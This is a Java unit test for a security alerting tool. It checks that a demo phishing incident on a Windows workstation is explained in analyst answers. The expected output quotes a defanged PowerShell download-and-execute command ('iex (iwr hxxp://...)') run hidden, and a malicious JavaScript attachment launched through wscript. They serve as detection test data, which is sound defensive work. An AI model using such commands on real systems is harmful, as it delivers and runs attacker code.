package io.clicktrail.standalone.detectiontest;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.alert.Alert;
import io.clicktrail.alert.AnalystQuestion;
import io.clicktrail.alerter.render.CaseText;
import io.clicktrail.alerter.render.TextStyle;
import io.clicktrail.enricher.tuning.Catalogues;
import io.clicktrail.standalone.EventTimeReader;
import io.clicktrail.standalone.stack.Stack;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The demo's story on Windows says what an analyst asks for first: yes, no, or what would be needed to know. */
class DemoAnswersTest {

    private static final Path DEMO = Path.of("src/main/resources/io/clicktrail/standalone/demo");
    private static final Set<String> ASKED_FIRST = Set.of("Q2", "Q4", "Q5", "Q7", "Q8", "Q11", "Q14", "Q16");

    @Test
    void theWindowsCaseAnswersWhatIsAskedFirst() throws Exception {
        Alert alert = windows();

        assertThat(alert.getAlertId()).startsWith("9e9aa1ff");
        assertThat(alert.getAnalystQuestions().stream()
                        .filter(question -> ASKED_FIRST.contains(question.getId()))
                        .map(DemoAnswersTest::said)
                        .collect(Collectors.joining("\n")))
                .isEqualTo("""
                        Q2: Yes: message r2231@docusign-invoices[.]click from review@docusign-invoices[.]click to a.meyer@corp.example at 2026-10-14T09:04:31Z, 7 minutes before the click, has a link to the site. The gateway holds it for phishing and delivered it. Other recipients: t.brandt@corp.example; none of them was seen to contact the site.
                        Q4: The organisation first saw docusign-invoices[.]click at 2026-10-14T09:12:07Z, in this chain. docusign-invoices[.]click is not known as shared hosting. Needs: registration date of the domain (RDAP or a feed).
                        Q5: No form was submitted in the requests seen (1). Strange sign-ins in the day after the click: 2026-10-14T09:52:07Z by microsoft.entra.sign-in from 203.0.113.150 (a new country, NG, high risk by the identity provider).
                        Q7: Yes: explorer.exe started wscript.exe: "C:\\Windows\\System32\\WScript.exe" "E:\\Invoice_2231.js" , as corp\\a.meyer. Needs: signature of the image (EDR, or Sysmon 7).
                        Q8: wscript.exe started powershell.exe: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden -Command "iex (iwr hxxp://docusign-invoices[.]click/s/2231 -UseBasicParsing).Content". Its processes: a further file was fetched (Command and Control, T1105) at 2026-10-14T09:13:24Z: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden -Command "iex (iwr hxxp://doc…(+54 characters). They connected to docusign-invoices[.]click (powershell.exe), 203[.]0[.]113[.]57 (powershell.exe). Needs: registry and network events below the first process (EDR, or Sysmon 3, 13); logons of other hosts (Windows 4624, auditd USER_LOGIN).
                        Q11: not known Needs: list of phishing simulations and approved tests.
                        Q14: No other host or user was seen to contact the site.
                        Q16: No: less than 10.0 kB an hour to 198.51.100.22, 198.51.100.23, 203[.]0[.]113[.]57 and 1 more from 2026-10-14T09:00:00Z to 2026-10-14T10:00:00Z, counted by zeek.conn, zeek.http; 1.0 MB a day count as data sent out (list of 2026-11-30).""");
    }

    @Test
    void theTextShowsEachAnswerAndWhatIsNotKnown() throws Exception {
        Alert alert = windows();
        String text = CaseText.of(alert, TextStyle.PLAIN).replaceAll("\\s+", " ");

        for (AnalystQuestion question : alert.getAnalystQuestions()) {
            String shown = question.getAnswer() == null
                    ? "Needs: " + String.join("; ", question.getMissingTelemetry())
                    : question.getAnswer();
            assertThat(text).as(question.getId()).contains(shown.replaceAll("\\s+", " "));
        }
    }

    private static String said(AnalystQuestion question) {
        return question.getId() + ": "
                + (question.getAnswer() == null ? "not known" : question.getAnswer())
                + (question.getMissingTelemetry().isEmpty()
                        ? ""
                        : " Needs: " + String.join("; ", question.getMissingTelemetry()) + ".");
    }

    private static Alert windows() throws Exception {
        var tests = new DetectionTests(Catalogues.bundled(), new EventTimeReader(), Stack.MAX_RECORD_BYTES);
        var test = new DetectionTest(
                "demo",
                DEMO,
                List.of(DEMO.resolve("windows"), DEMO.resolve("linux"), DEMO.resolve("macos")),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                DEMO.resolve("known-domains.txt"),
                Duration.ZERO,
                List.of());
        return tests.cases(test, event -> {}).stream()
                .filter(alert -> alert.getDevice().getHostname().startsWith("ws-0142"))
                .findFirst()
                .orElseThrow();
    }
}
